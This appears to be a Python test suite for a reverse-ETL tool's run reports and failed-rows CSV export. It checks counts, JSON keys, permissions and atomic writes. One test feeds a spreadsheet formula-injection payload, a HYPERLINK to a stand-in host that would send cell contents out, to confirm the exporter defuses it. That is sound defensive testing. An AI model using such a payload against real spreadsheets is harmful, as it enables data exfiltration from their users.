"""Counts add up, reports say what scripts rely on, and the failed-rows CSV is private and whole."""

from __future__ import annotations

import csv
import io
import os
import re
import tempfile
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path

import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st

from reverse_etl.changeset.failed_rows import batches_of
from reverse_etl.changeset.failed_rows_csv import as_it_was, harmless, write_failed_rows
from reverse_etl.report import FAILED_ROW_COLUMNS, Counts, FailedRow, Outcome, Reason, RunReport, Status

AT = datetime(2026, 1, 5, 1, 30, tzinfo=UTC)
ROW = FailedRow(2, "rows", "anna@example.com", "check", Reason("email_valid", "email", "column `email` is not valid."))
NUMBERS = st.integers(0, 10_000)
COUNTS = st.builds(Counts, NUMBERS, NUMBERS, NUMBERS, NUMBERS, NUMBERS, NUMBERS)


@given(st.lists(st.sampled_from(Outcome), max_size=30))
def test_rows_with_one_outcome_each_balance(outcomes: list[Outcome]) -> None:
    """Whatever becomes of rows, the outcomes add up when each is counted once, and not when one is lost."""
    counts = Counts(len(outcomes), *(outcomes.count(o) for o in sorted(Outcome, key=_column)))
    assert counts.balanced
    assert not replace(counts, extracted=len(outcomes) + 1).balanced
    kept = sum(map(outcomes.count, (Outcome.DELIVERED, Outcome.EXCLUDED, Outcome.UNCHANGED)))
    assert len(outcomes) - kept == counts.failed


def _column(outcome: Outcome) -> int:
    return list(Counts.__dataclass_fields__).index(outcome.name.lower())


@given(COUNTS, COUNTS)
def test_counts_are_added_field_by_field(one: Counts, other: Counts) -> None:
    """Rows and relationships together."""
    total = one + other
    assert one.extracted + other.extracted == total.extracted
    assert one.undelivered + other.undelivered == total.undelivered
    assert one.failed + other.failed == total.failed


def test_outcomes_keep_their_numbers() -> None:
    """They are stored with changesets, one byte a row, and read by later releases."""
    assert {"UNDELIVERED": 0, "DELIVERED": 1, "REJECTED": 2, "REFUSED": 3, "EXCLUDED": 4, "UNCHANGED": 5} == {
        outcome.name: outcome.value for outcome in Outcome
    }


def test_statuses_are_the_words_of_the_documentation() -> None:
    """The same words in the CLI, in tags and in the history."""
    assert {"running", "completed", "some_rows_failed", "failed", "skipped", "canceled"} == {s.value for s in Status}


def test_a_report_as_json_has_the_fixed_keys() -> None:
    """Scripts rely on them; what is empty is null, times are ISO 8601 in UTC."""
    shown = RunReport(
        "people", "r1", Status.COMPLETED, AT, duration_s=1.23456, last_sync_time=5, streams={"rows": Counts(1, 1)}
    ).as_json()
    left_out = dict.fromkeys(("excluded", "unchanged", "undelivered"), 0)
    assert {
        "sync": "people",
        "run_id": "r1",
        "status": "completed",
        "started_at": "2026-01-05T01:30:00Z",
        "duration_s": 1.235,
        "last_sync_time": 5,
        "read_from": None,
        "rows": {"extracted": 1, "delivered": 1, "rejected": 0, "refused": 0} | left_out,
        "relationships": dict.fromkeys(("extracted", "delivered", "rejected", "refused"), 0) | left_out,
        "failed_rows_csv": None,
        "message": None,
        "exit_code": 0,
        "reads": None,
        "carried": None,
        "excluded_by": {},
        "warnings": [],
        "piece": None,
        "added": None,
        "changed": None,
    } == shown


def test_the_csv_has_the_fixed_columns(tmp_path: Path) -> None:
    """Header, rows in order, quoting as CSV has it; folders are made."""
    awkward = FailedRow(3, "relationships", 'a,"b"\nc', "customerio", Reason("invalid", "", "no"))
    path = tmp_path / "new" / "failed.csv"
    assert 2 == write_failed_rows(path, batches_of([ROW, awkward]))
    with path.open(newline="") as file:
        found = list(csv.reader(file))
    header = ["row_number", "query", "identifier", "stage", "reason", "field", "message", "attempt"]
    assert header == found[0] == list(FAILED_ROW_COLUMNS)
    told = ["2", "rows", "anna@example.com", "check", "email_valid", "email", "column `email` is not valid.", "1"]
    assert told == found[1]
    assert 'a,"b"\nc' == found[2][2]


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"])
def test_no_cell_runs_in_a_spreadsheet(sign: str, tmp_path: Path) -> None:
    """Whatever column it stands in: an apostrophe makes it text."""
    cell = f'{sign}HYPERLINK("http://x.invalid/?"&A1,"open")'
    write_failed_rows(tmp_path / "failed.csv", batches_of([FailedRow(1, cell, cell, cell, Reason(cell, cell, cell))]))
    with (tmp_path / "failed.csv").open(newline="") as file:
        (row,) = csv.DictReader(file)
    assert {"row_number": "1", "attempt": "1", **dict.fromkeys(list(FAILED_ROW_COLUMNS)[1:-1], f"'{cell}")} == row


@given(st.text(alphabet="'=+-@;\t\r\na,\"1＝é", max_size=8))
def test_a_harmless_cell_can_be_read_back(cell: str) -> None:
    """Also one that began with apostrophes; no part runs where a spreadsheet parts cells at semicolons or tabs."""
    (shown,) = harmless(pa.array([cell])).to_pylist()
    assert cell == as_it_was(shown)
    assert not shown.startswith(("=", "+", "-", "@", "\t", "\r", "＝"))
    assert not any(part.startswith(("=", "+", "-", "@", "＝")) for part in re.split(r"[;\t\r\n]", shown))


_CELLS = st.text(alphabet=" '\r\na,\"1é", max_size=6).map(lambda text: f"x{text}" if text else "")
"""Texts that no spreadsheet runs."""


@given(st.lists(st.tuples(_CELLS, _CELLS), max_size=5))
def test_the_csv_is_written_as_python_writes_one(cells: list[tuple[str, str]]) -> None:
    """Byte by byte, whatever has to be quoted; a text that comes again is the same again."""
    rows = [FailedRow(n, "rows", key, "check", Reason("r", "", text)) for n, (key, text) in enumerate(cells)]
    with tempfile.TemporaryDirectory() as folder:
        write_failed_rows(path := Path(folder) / "failed.csv", batches_of(rows))
        expected = io.StringIO(newline="")
        csv.writer(expected).writerows([FAILED_ROW_COLUMNS, *(row.columns().values() for row in rows)])
        assert expected.getvalue() == path.read_bytes().decode()


def test_the_csv_is_its_owners_alone(tmp_path: Path) -> None:
    """Whatever the umask, and also when it replaces a file that others could read."""
    path = tmp_path / "failed.csv"
    path.write_text("")
    path.chmod(0o644)
    before = os.umask(0)
    try:
        write_failed_rows(path, batches_of([ROW]))
    finally:
        os.umask(before)
    assert 0o600 == path.stat().st_mode & 0o777


def test_the_csv_appears_whole_or_not_at_all(tmp_path: Path) -> None:
    """Rows that cannot be read to their end leave the former file as it was."""
    path = tmp_path / "failed.csv"
    write_failed_rows(path, batches_of([ROW]))
    former = path.read_text()

    def broken() -> Iterator[FailedRow]:
        yield ROW
        raise RuntimeError("unreadable")

    with pytest.raises(RuntimeError, match="unreadable"):
        write_failed_rows(path, batches_of(broken()))
    assert former == path.read_text()
